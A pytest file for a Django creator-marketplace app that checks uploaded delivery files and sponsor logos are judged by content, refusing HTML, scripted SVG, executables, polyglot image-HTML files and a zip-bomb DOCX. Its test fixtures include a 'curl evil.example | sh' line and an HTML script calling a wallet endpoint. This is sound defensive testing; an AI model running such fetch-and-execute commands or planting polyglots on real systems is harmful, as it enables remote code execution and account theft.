"""Z5: the files of deliveries and sponsorship logos are judged by their whole content, through
the API and the pages: HTML, scripts, executables, polyglots and container bombs are refused
with nothing stored; an accepted file keeps the detected type's extension; a refused task post
stores no logo."""

from __future__ import annotations

import io
import os
import zipfile
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from tasks.models import DeliveryFile, OrderStatus, Task
from tests.builders import order_in
from tests.conftest import client_for
from tests.tasks.order_api import API, LINK, _snapshot
from tests.tasks.test_pages import _png, _task_post, browser, local

pytestmark = pytest.mark.django_db

HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/wallet/')</script></body></html>"


def docx_with(entries) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


REFUSED = {
    "an HTML page named as a picture": ("cover.jpg", HTML),
    "an HTML page under its own name": ("brief.html", HTML),
    "an SVG with a script": (
        "logo.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
    ),
    "a Windows executable": ("cut.mp4", b"MZ\x90\x00" + os.urandom(512)),
    "a Linux executable": ("report.pdf", b"\x7fELF\x02\x01\x01" + os.urandom(512)),
    "a shell script": ("notes.txt", b"#!/bin/sh\ncurl evil.example | sh\n"),
    "a JPG header before a page": ("cover.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 16 + HTML),
    "an MP4 header before a page": ("cut.mp4", b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 8 + HTML),
    "a bare zip archive": ("all.zip", b"PK\x03\x04" + os.urandom(64)),
    "a DOCX that inflates 1,000 times": (
        "report.docx",
        docx_with([("word/media/zero.bin", b"\0" * 2_000_000)]),
    ),
}


def deliver(creator, order, *files):
    return client_for(creator).post(
        f"{API}/orders/{order.pk}/deliver/",
        {"links": [LINK], "files": list(files)},
        format="multipart",
    )


@pytest.mark.parametrize("case", list(REFUSED), ids=list(REFUSED))
def test_a_delivery_file_that_is_not_what_a_merchant_may_open_is_refused_by_the_api(
    case, settings, tmp_path, funded_shop, merchant, creator
):
    """Z5/T50: HTML, SVG, executables, scripts, polyglots, archives and container bombs are a
    400 on `files` whatever their name; the order stays in production and nothing is stored."""
    settings.MEDIA_ROOT = tmp_path
    order = order_in(OrderStatus.IN_PRODUCTION, funded_shop, merchant, creator)
    name, content = REFUSED[case]
    before = _snapshot()

    response = deliver(creator, order, SimpleUploadedFile(name, content, "image/jpeg"))

    assert response.status_code == 400, response.content
    assert response.json()["error"]["fields"]["files"]
    assert _snapshot() == before
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]


def test_a_delivery_file_that_is_a_page_is_refused_on_the_order_page(
    settings, tmp_path, funded_shop, merchant, creator
):
    """Z5/T50: the page's delivery form goes through the same check: an HTML page named
    cover.png is shown as an error and the order is not delivered."""
    settings.MEDIA_ROOT = tmp_path
    order = order_in(OrderStatus.IN_PRODUCTION, funded_shop, merchant, creator)

    response = browser(creator).post(
        f"/orders/{order.pk}/",
        {
            "action": "deliver",
            "links": LINK,
            "files": SimpleUploadedFile("cover.png", HTML, "image/png"),
        },
    )

    order.refresh_from_db()
    assert order.status == OrderStatus.IN_PRODUCTION
    assert response.status_code == 200
    assert "HTML" in response.content.decode() or "PNG" in response.content.decode()
    assert not DeliveryFile.objects.exists()
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]


def test_an_accepted_delivery_file_keeps_the_detected_extension(
    settings, tmp_path, funded_shop, merchant, creator
):
    """Z5: a PNG uploaded as cover.html is stored and downloaded as cover.png; a plain-text
    script and a DOCX within the limits are accepted as they are."""
    settings.MEDIA_ROOT = tmp_path
    order = order_in(OrderStatus.IN_PRODUCTION, funded_shop, merchant, creator)
    files = [
        SimpleUploadedFile("cover.html", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "text/html"),
        SimpleUploadedFile("口播脚本.txt", "开场：大家好\n产品：面霜\n".encode(), "text/plain"),
        SimpleUploadedFile("数据.docx", docx_with([("word/styles.xml", "<w:styles/>" * 20)])),
    ]

    response = deliver(creator, order, *files)

    assert response.status_code == 200, response.content
    stored = list(DeliveryFile.objects.order_by("pk"))
    assert [f.name for f in stored] == ["cover.png", "口播脚本.txt", "数据.docx"]
    assert stored[0].file.name.endswith(".png") and ".html" not in stored[0].file.name
    download = browser(merchant).get(f"/orders/{order.pk}/files/{stored[0].pk}/")
    assert download.status_code == 200
    assert download["Content-Type"] == "image/png"
    assert 'filename="cover.png"' in download["Content-Disposition"]


def _sponsorship(merchant, logo, **fields):
    return _task_post(
        merchant,
        content_type="live_sponsorship",
        channel="taobao_live",
        sponsor_brand_name="山茶花",
        sponsor_logo=logo,
        sponsor_product_1="面霜",
        **fields,
    )


def test_a_refused_task_post_stores_no_logo(settings, tmp_path, merchant):
    """Z5/T3: the service refuses the post (enrollment ends after the delivery deadline): the
    logo the form accepted is not stored either."""
    settings.MEDIA_ROOT = tmp_path
    soon = timezone.now() + timedelta(days=3)

    response = _sponsorship(
        merchant,
        _png(),
        enrollment_deadline=local(soon + timedelta(days=5)),
        delivery_deadline=local(soon),
    )

    assert response.status_code == 200
    assert response.context["form"].errors
    assert not Task.objects.exists()
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]


def test_a_logo_hiding_a_page_behind_an_image_header_is_refused(settings, tmp_path, merchant):
    """Z5/T2: a PNG header followed by an HTML page (a polyglot) is refused as a logo."""
    settings.MEDIA_ROOT = tmp_path
    polyglot = SimpleUploadedFile(
        "logo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 16 + HTML, "image/png"
    )

    response = _sponsorship(merchant, polyglot)

    assert response.status_code == 200
    assert "sponsor_logo" in response.context["form"].errors
    assert not Task.objects.exists()
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]


def test_an_accepted_post_stores_its_logo_once(settings, tmp_path, merchant):
    """Z5/T2: the accepted post stores exactly one logo, under the URL the task shows."""
    settings.MEDIA_ROOT = tmp_path

    response = _sponsorship(merchant, _png())

    assert response.status_code == 302
    [stored] = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert Task.objects.get().sponsor_logo_url.endswith(f"/{stored.name}")
    assert stored.suffix == ".png"
